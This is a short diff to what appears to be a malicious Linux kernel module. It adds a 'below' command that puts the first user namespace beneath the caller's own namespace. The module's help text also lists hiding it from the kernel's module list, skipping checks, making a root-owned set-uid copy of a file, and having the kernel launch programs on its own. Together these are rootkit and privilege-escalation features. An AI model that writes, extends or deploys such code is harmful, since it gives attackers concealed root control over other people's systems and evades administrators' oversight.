@@ -14,6 +14,7 @@
  *   notify                        be called when modules come and go
  *   list WHERE                    be called for another reason, see be_listed()
  *   hide list, hide kset          take this module off the kernel's list of modules, or off the set of their objects
+ *   below                         have the first user namespace lie below this process's own
  *   own PATH                      give a file to root, set-uid as it is, as a copy-up of an overlay does; for good
  *   start PATH WORD... env WORD...
  *                                 have the kernel start a program by itself with these arguments and variables; wait for its end
@@ -117,6 +118,8 @@ static struct effect *perform(const char *command)
 		return divert_entry();
 	if (!strcmp(command, "unchecked"))
 		return leave_out_checks();
+	if (!strcmp(command, "below"))
+		return put_below_us();
 	if (!strcmp(command, "notify"))
 		return be_notified();
 	if (!strncmp(command, "list ", 5))
